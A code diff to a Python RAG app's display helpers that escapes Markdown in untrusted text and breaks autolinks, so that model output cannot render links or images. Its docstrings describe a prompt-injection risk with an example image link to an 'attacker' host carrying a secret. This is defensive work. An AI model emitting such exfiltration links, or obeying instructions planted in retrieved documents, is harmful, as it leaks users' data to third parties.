@@ -13,31 +13,51 @@ from pathlib import PurePath
 
 from rag.answer.prompt import label
 from rag.answer.types import Answer, Citation
+from rag.answer.verify import SentenceCheck
 from rag.index.manifest import DocumentRecord
 
 __all__ = [
+    "citation_caption",
     "citation_title",
+    "corrected_line",
     "document_rows",
     "eta",
     "highlight",
-    "inert_markdown",
+    "inert",
     "locate",
     "passage_html",
+    "unsupported_line",
 ]
 
 _SPACE = re.compile(r"\s+")
+#: Every ASCII character Markdown (CommonMark, GitHub's extensions, Streamlit's own
+#: :colour[...] and :material/...: directives, LaTeX) can give a meaning to.
+_MARKDOWN = re.compile(r"""([\\`*_{}\[\]()<>#+\-.!|~$:&"'=^%@/])""")
 
 
-def inert_markdown(text: str) -> str:
-    """Model output made safe to render as Markdown.
+#: Where GitHub's autolinks could begin: a scheme's colon or an @ (after them), "www."
+#: (before its dot).
+_AUTOLINK = re.compile(r"(?<=[:@])|(?<=[wW]{3})(?=\.)")
 
-    The model reads untrusted documents, so its output is untrusted too: a
-    document could make it emit ``![x](https://attacker/?q=secret)``, which a
-    browser would fetch on its own. Escaping ``[`` disables every link and
-    image (``\\[1]`` still renders as ``[1]``); escaping ``$`` stops "£45 or $70"
-    from rendering as LaTeX. Safe to apply piece by piece to a stream.
+
+def inert(text: str) -> str:
+    """Untrusted text made to show as itself wherever Streamlit reads Markdown (bodies,
+    captions, alerts, toasts, widget and expander labels).
+
+    Everything shown in the UI that rag did not write itself goes through here: a
+    document's words, a file's name, the model's answer (the model reads untrusted
+    documents, so it can be made to write ``![x](https://attacker/?q=secret)``, which a
+    browser would fetch on its own, or a link). Each character Markdown could read as
+    syntax is backslash-escaped, so no image, link, autolink, HTML tag, heading, list,
+    table, formula or Streamlit directive can form; the text reads the same. Safe to
+    apply piece by piece to a stream.
+
+    GitHub's autolinks (``https://...``, ``www.``, an e-mail address) form from the text
+    itself, escapes or not, so a zero-width space follows every ``:`` and ``@`` and
+    splits ``www.``: the text looks the same and no URL can be read out of it.
     """
-    return text.replace("\\", "\\\\").replace("[", "\\[").replace("$", "\\$")
+    text = _AUTOLINK.sub("\u200b", text)
+    return _MARKDOWN.sub(r"\\\1", text)
 
 
 def locate(passage: str, quote: str) -> tuple[int, int] | None:
@@ -79,7 +99,22 @@ def highlight(passage: str, span: tuple[int, int] | None) -> str:
 
 def citation_title(c: Citation) -> str:
     """The label of a citation's expander: ``[n] file, page p · score``."""
-    return f"[{c.n}] {label(c.source, c.page)} · score {c.score:.2f}"
+    return inert(f"[{c.n}] {label(c.source, c.page)} · score {c.score:.2f}")
+
+
+def citation_caption(c: Citation) -> str:
+    """The full path under a citation's title."""
+    return inert(c.source)
+
+
+def unsupported_line(s: SentenceCheck) -> str:
+    """The warning under an answer for a sentence the passages do not support."""
+    return f"Not supported by your documents: “{inert(s.text)}”"
+
+
+def corrected_line(s: SentenceCheck) -> str:
+    """The note for a sentence whose citation was moved to the passage that supports it."""
+    return inert(f"↪ Citation corrected to {s.citations}: “{s.text}”")
 
 
 def passage_html(answer: Answer, c: Citation) -> str:
